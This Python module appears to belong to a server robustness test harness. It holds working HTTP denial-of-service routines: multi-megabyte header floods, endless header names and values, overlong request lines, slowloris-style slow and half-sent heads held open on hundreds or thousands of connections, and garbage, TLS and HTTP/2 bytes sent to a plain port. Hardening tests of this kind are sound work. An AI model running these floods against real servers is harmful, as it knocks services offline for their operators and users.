"""Heads that are too large, too slow, or none."""

from __future__ import annotations

import contextlib
import os
from collections import Counter
from typing import TYPE_CHECKING

from attack.target import HOST, hold, read_status, repeat

if TYPE_CHECKING:
    from attack.target import Target

MB = 1024 * 1024
HALF_HEADS = 4_000


def header_flood(target: Target, seconds: float) -> Counter[str]:
    """63 MB of header lines on one connection, as often as it is let."""
    lines = b"a: b\r\n" * (MB // 6)
    return repeat(lambda: _pour(target, b"GET / HTTP/1.1\r\n" + HOST, lines, 63), seconds, 2)


def endless_value(target: Target, seconds: float) -> Counter[str]:
    """63 MB of one header's value."""
    return repeat(lambda: _pour(target, b"GET / HTTP/1.1\r\na: ", b"b" * MB, 63), seconds, 2)


def endless_name(target: Target, seconds: float) -> Counter[str]:
    """63 MB of one header's name."""
    return repeat(lambda: _pour(target, b"GET / HTTP/1.1\r\n", b"b" * MB, 63), seconds, 2)


def many_fields(target: Target, seconds: float) -> Counter[str]:
    """A head of ten thousand fields."""
    head = b"GET / HTTP/1.1\r\n" + HOST + b"a:\r\n" * 10_000 + b"\r\n"
    return repeat(lambda: target.answer(head), seconds, 2)


def long_request_line(target: Target, seconds: float) -> Counter[str]:
    """Addresses of 64 KiB and without an end."""
    whole = b"GET /" + b"a" * 64 * 1024 + b" HTTP/1.1\r\n" + HOST + b"\r\n"
    answers = repeat(lambda: target.answer(whole), seconds / 2, 2)
    return answers + repeat(lambda: _pour(target, b"GET /", b"a" * MB, 63), seconds / 2, 2)


def empty_lines(target: Target, seconds: float) -> Counter[str]:
    """Line ends, and never a request."""
    return repeat(lambda: _pour(target, b"", b"\r\n" * (MB // 2), 63), seconds, 2)


def slow_heads(target: Target, seconds: float) -> Counter[str]:
    """Heads that come a field at a time, on 500 connections."""
    return hold(target, 500, b"GET / HTTP/1.1\r\n", seconds, b"a: b\r\n")


def half_heads(target: Target, seconds: float) -> Counter[str]:
    """As many heads as there may be connections, each as large as a head may be, without an end."""
    begin = b"GET / HTTP/1.1\r\n" + (b"a: " + b"b" * 300 + b"\r\n") * 95
    return hold(target, HALF_HEADS, begin, seconds)


def garbage(target: Target, seconds: float) -> Counter[str]:
    """Bytes that mean nothing."""
    return repeat(lambda: target.answer(b"\xff" + os.urandom(2_000) + b"\r\n\r\n"), seconds, 2)


def tls_hello(target: Target, seconds: float) -> Counter[str]:
    """The hello of TLS on the plain port."""
    hello = bytes.fromhex("1603010200010001fc0303") + os.urandom(500)
    return repeat(lambda: target.answer(hello), seconds, 2)


def http2_preface(target: Target, seconds: float) -> Counter[str]:
    """HTTP/2 by prior knowledge."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" * 100
    return repeat(lambda: target.answer(preface), seconds, 2)


def _pour(target: Target, begin: bytes, piece: bytes, times: int) -> str:
    with target.connect() as client:
        with contextlib.suppress(OSError):
            client.sendall(begin)
            for _ in range(times):
                client.sendall(piece)
        return read_status(client)
